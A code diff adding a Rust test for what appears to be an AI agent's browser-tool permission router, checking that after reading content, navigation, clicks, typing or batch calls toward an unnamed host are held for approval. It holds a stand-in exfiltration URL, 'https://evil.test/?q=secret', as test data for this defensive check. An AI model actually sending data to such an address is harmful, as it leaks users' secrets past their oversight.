@@ -194,6 +194,48 @@ async fn what_goes_to_a_host_that_nobody_named_asks_each_time() {
     assert!(matches!(again.decision, Decision::Ask { .. }), "{again:?}");
 }
 
+// bar: C35
+#[tokio::test]
+async fn in_auto_what_goes_to_a_host_that_nobody_named_asks_once_something_was_read() {
+    let (browser, router) = router();
+    let evil = "https://evil.test/?q=secret";
+    browser.edit(|pages| {
+        let leads_to = Some(evil.into());
+        pages.target = WebTarget { url: evil.into(), called: "More".into(), leads_to, goes_there: true };
+    });
+    let mut grants = Grants::default();
+    grants.hear("What does example.org say?");
+    let calls = [
+        ("webNavigate", json!({ "url": evil })),
+        ("webTabEdit", json!({ "open": evil })),
+        ("webClick", json!({ "ref": "w1" })),
+        ("webType", json!({ "ref": "w1", "text": "secret" })),
+        ("batch", json!({ "actions": [{ "tool": "webNavigate", "arguments": { "url": evil } }] })),
+    ];
+    for (tool, arguments) in calls {
+        let auto = |has_read, grants: &Grants| {
+            let grants = grants.clone();
+            ExecRequest { grants, has_read, ..request(tool, arguments.clone()) }
+        };
+        assert_eq!(router.assess(&auto(false, &grants), &limits()).await.decision, Decision::Run, "{tool}");
+        let asked = router.assess(&auto(true, &grants), &limits()).await;
+        assert!(asks_about(&asked, "evil.test"), "{tool} {asked:?}");
+        let result = execute(&router, auto(true, &grants), CancellationToken::new()).await.result;
+        assert_eq!(result.effect, Effect::Refused, "{tool}");
+        let mut after_a_yes = grants.clone();
+        after_a_yes.visit(&asked.hosts);
+        let again = router.assess(&auto(true, &after_a_yes), &limits()).await;
+        assert_eq!(again.decision, Decision::Run, "{tool}");
+    }
+    assert_eq!(browser.calls(), []);
+    let known = ExecRequest {
+        grants,
+        has_read: true,
+        ..request("webNavigate", json!({ "url": "https://example.org/today" }))
+    };
+    assert_eq!(router.assess(&known, &limits()).await.decision, Decision::Run);
+}
+
 #[tokio::test(start_paused = true)]
 async fn a_yes_to_a_form_is_not_for_the_one_that_took_its_place() {
     let (browser, router) = router();
